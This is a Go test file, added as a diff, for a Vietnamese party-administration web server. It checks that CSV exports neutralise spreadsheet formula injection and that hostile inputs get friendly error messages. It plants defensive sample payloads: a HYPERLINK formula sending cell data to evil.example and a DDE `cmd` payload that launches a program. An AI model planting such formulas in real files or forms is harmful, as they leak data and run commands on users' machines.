@@ -1,0 +1,226 @@
+package server
+
+import (
+	"bytes"
+	"encoding/csv"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+
+	"ptdang/internal/account"
+	"ptdang/internal/org"
+	"ptdang/internal/report"
+)
+
+// plainNumber is a cell that is a number as we write them: -5, 0,125, -48,02 %.
+var plainNumber = regexp.MustCompile(`^-?[0-9][0-9.,]*( ?%)?$`)
+
+// formulaCells returns the cells of the CSV file body that Excel would run as formulas.
+func formulaCells(t *testing.T, body string) []string {
+	t.Helper()
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
+	r.FieldsPerRecord = -1
+	records, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("not CSV: %v\n%s", err, body)
+	}
+	var bad []string
+	for _, rec := range records {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
+				bad = append(bad, cell)
+			}
+		}
+	}
+	return bad
+}
+
+func TestNoCSVExportHoldsAFormula(t *testing.T) {
+	s, base := newTestServer(t)
+	f := dashboardFixture(t, s, base)
+	ctx, all := t.Context(), org.Everything()
+	// Formulas planted where anyone with a form can put them: unit names and codes, and a login name
+	// typed on the sign-in page by someone with no account at all.
+	const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
+	commune, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "TU.X03", Name: evilName,
+		Kind: org.CommuneCommittee, OrgType: "territorial", ParentID: f.province, From: day("2015-01-01")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cell, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "-B2", Name: "+84 ấp Mới",
+		Kind: org.AffiliatedCell, OrgType: "territorial", ParentID: commune, From: day("2015-01-01"), FullMembers: 3})
+	if err != nil {
+		t.Fatal(err)
+	}
+	adminCommune, err := org.GetAdminUnitByCode(ctx, s.DB, all, "DN.X01", day("2020-01-01"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	hamlet, err := org.CreateAdminUnit(ctx, s.DB, all, org.AdminUnitInput{Code: "-A1", Name: "@SUM(1+1)", Level: org.Hamlet,
+		LocalWord: "ấp", ParentID: adminCommune.ID, From: day("2015-01-01")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := org.SetLink(ctx, s.DB, all, hamlet, cell, org.OwnCell, day("2015-01-01")); err != nil {
+		t.Fatal(err)
+	}
+	const evilLogin = `=cmd|' /C calc'!A0`
+	if resp, body := send(t, &http.Client{}, "POST", base+"/login", url.Values{"login": {evilLogin}, "password": {"x"}}); resp.StatusCode != http.StatusUnauthorized {
+		t.Fatalf("sign-in: %d\n%s", resp.StatusCode, body)
+	}
+
+	for _, c := range []struct {
+		name, path string
+		planted    string // the neutralised cell the export must hold
+	}{
+		{"audit", "/admin/audit.csv", "'" + strings.ToLower(evilLogin)},
+		{"party units", "/org/export/party.csv?date=2024-01-01", "'" + evilName},
+		{"admin units", "/org/export/admin.csv?date=2024-01-01", "'@SUM(1+1)"},
+		{"links", "/org/export/links.csv?date=2024-01-01", "'-A1"},
+		{"targets", "/targets/export.csv?unit=" + itoa(f.province) + "&year=2022", "'" + evilName},
+		{"dashboard", "/dashboard.csv?unit=" + itoa(f.province), "'" + evilName},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			client := f.staff
+			if c.name == "audit" {
+				client = f.clients[string(account.SystemAdmin)]
+			}
+			resp, body := send(t, client, "GET", base+c.path, nil)
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("%d\n%s", resp.StatusCode, body)
+			}
+			if bad := formulaCells(t, body); len(bad) > 0 {
+				t.Errorf("cells Excel would run: %q\n%s", bad, body)
+			}
+			r := csv.NewReader(strings.NewReader(body))
+			r.FieldsPerRecord = -1
+			records, _ := r.ReadAll()
+			found := false
+			for _, rec := range records {
+				for _, cell := range rec {
+					found = found || cell == c.planted
+				}
+			}
+			if !found {
+				t.Errorf("no cell %q in\n%s", c.planted, body)
+			}
+		})
+	}
+
+	// Our own export imports back unchanged: the quotes come off again, and no name changes.
+	for _, table := range []string{"party", "admin", "links"} {
+		_, file := send(t, f.staff, "GET", base+"/org/export/"+table+".csv?date=2024-01-01", nil)
+		var body bytes.Buffer
+		mw := multipart.NewWriter(&body)
+		part, _ := mw.CreateFormFile("file", table+".csv")
+		part.Write([]byte(file))
+		mw.WriteField("table", table)
+		mw.WriteField("dry_run", "1")
+		mw.Close()
+		resp, err := f.staff.Post(base+"/org/import", mw.FormDataContentType(), &body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		html, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK || !strings.Contains(string(html), "không có lỗi") {
+			t.Errorf("%s.csv imported back: %d\n%s", table, resp.StatusCode, html)
+		}
+		for _, code := range []string{"TU.X03", "-B2", "-A1"} {
+			if strings.Contains(string(html), "sửa "+code) || strings.Contains(string(html), "thêm "+code) ||
+				strings.Contains(string(html), "thôn "+code) {
+				t.Errorf("%s.csv imported back changes %s:\n%s", table, code, html)
+			}
+		}
+	}
+}
+
+func TestHostileInputGetsAVietnameseMessageNeverA500(t *testing.T) {
+	s, base := newTestServer(t)
+	f := newReportFixture(t, s, base)
+	addUser(t, s, "quantri", account.SystemAdmin, 0)
+	admin := signIn(t, base, "quantri")
+	q1 := report.Period{Year: 2026, Quarter: 1}
+	form := func(kv ...string) url.Values {
+		v := url.Values{}
+		for i := 0; i < len(kv); i += 2 {
+			v.Set(kv[i], kv[i+1])
+		}
+		return v
+	}
+	party := func(name, members string) url.Values {
+		return form("code", "TU.X01.A09", "name", name, "kind", "affiliated_cell", "org_type", "territorial",
+			"parent_code", "TU.X01", "from", "01/01/2024", "full_members", members, "term_months", "60")
+	}
+	const (
+		int32Over = "2147483648"          // 2^31
+		int64Max  = "9223372036854775807" // 2^63-1
+	)
+	for _, c := range []struct {
+		name   string
+		client *http.Client
+		method string
+		path   string
+		form   url.Values
+		status int
+		want   []string // in the page, HTML-escaped as it is there
+	}{
+		{"report figure 2^31", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "opening", int32Over),
+			422, []string{"Đầu quý: số quá lớn; một chi bộ không có quá 100.000 đảng viên."}},
+		{"report figure 2^63-1", f.sec, "POST", reportHref(f.cell, q2026), form("action", "submit", "version", "0", "opening", int64Max, "closing", int64Max, "full_members", int64Max),
+			422, []string{"Cuối quý: số quá lớn"}},
+		{"report figure beyond 2^63", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "admitted", "99999999999999999999"),
+			422, []string{"Kết nạp mới: số quá lớn"}},
+		{"a billion admitted, confirmed", f.sec, "POST", reportHref(f.cell, q2026), form("action", "submit", "version", "0", "confirm", "1",
+			"opening", "14", "admitted", "1.000.000.000", "closing", "1.000.000.014", "full_members", "14", "probationary", "1.000.000.000"),
+			422, []string{"Kết nạp mới: số quá lớn"}},
+		{"report autosave 2^40", f.sec, "POST", reportHref(f.cell, q2026) + "/autosave", form("version", "0", "opening", "1099511627776"),
+			200, []string{"Chưa tự lưu: có ô chưa phải là số nguyên từ 0 đến 100.000."}},
+		{"report live check 2^63-1", f.sec, "POST", reportHref(f.cell, q2026) + "/check", form("closing", int64Max),
+			200, []string{"Cuối quý: số quá lớn"}},
+		{"report figure with NUL", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "opening", "1\x004"),
+			422, []string{"Đầu quý: Ô này có ký tự không hợp lệ (ký tự NUL"}},
+		{"return reason with NUL", f.xa, "POST", reportHref(f.cell, q1) + "/return", form("version", "1", "reason", "Sai số\x00 liệu"),
+			422, []string{"Ô này có ký tự không hợp lệ (ký tự NUL"}},
+		{"unit name with NUL, members 2^40", f.staff, "POST", "/org/party/new", party("Chi bộ\x00 ấp 9", "1099511627776"),
+			422, []string{`data-testid="error-name">Ô này có ký tự không hợp lệ`, `data-testid="error-full_members">Số quá lớn`}},
+		{"a cell of a billion members", f.staff, "POST", "/org/party/new", party("Chi bộ ấp 9", "1.000.000.000"),
+			422, []string{`data-testid="error-full_members">Số đảng viên chính thức quá lớn: một chi bộ không có quá 100.000 đảng viên.`}},
+		{"search with NUL", f.staff, "GET", "/org?q=B%00%C3%A0u", nil, 200, []string{"Ấp Bàu Cạn"}},
+		{"search with invalid UTF-8", f.staff, "GET", "/org?q=B%C3%A0u%ff%fe", nil, 200, []string{"Ấp Bàu Cạn"}},
+		{"audit filters with NUL", admin, "GET", "/admin/audit?by=tinh%00&label=%00TU&from=%00", nil, 200, []string{"Nhật ký thay đổi"}},
+		{"audit CSV filters with NUL", admin, "GET", "/admin/audit.csv?by=%00", nil, 200, []string{"Người thực hiện"}},
+		{"login with NUL", &http.Client{}, "POST", "/login", form("login", "tinh\x00", "password", testPassword),
+			422, []string{"Tên đăng nhập hoặc mật khẩu có ký tự không hợp lệ (ký tự NUL). Xin gõ lại."}},
+		{"login of 900 KB", &http.Client{}, "POST", "/login", form("login", strings.Repeat("a", 900<<10), "password", "x"),
+			422, []string{"Tên đăng nhập dài quá: tên đăng nhập có nhiều nhất 40 ký tự."}},
+		{"login of 2 MB", &http.Client{}, "POST", "/login", form("login", strings.Repeat("a", 2<<20), "password", "x"),
+			400, []string{"Biểu mẫu gửi lên không đọc được hoặc quá dài (hơn 1 MB)."}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			resp, body := send(t, c.client, c.method, base+c.path, c.form)
+			if resp.StatusCode != c.status {
+				t.Errorf("status %d, want %d", resp.StatusCode, c.status)
+			}
+			for _, want := range c.want {
+				if !strings.Contains(body, want) {
+					t.Errorf("no %q in the page:\n%s", want, pageText(body))
+				}
+			}
+		})
+	}
+}
+
+// pageText is the text of an HTML page's main part, for failure messages.
+func pageText(body string) string {
+	if i := strings.Index(body, "<main"); i >= 0 {
+		body = body[i:]
+	}
+	body = regexp.MustCompile(`<[^>]*>`).ReplaceAllString(body, " ")
+	body = regexp.MustCompile(`\s+`).ReplaceAllString(body, " ")
+	return body[:min(len(body), 1500)]
+}
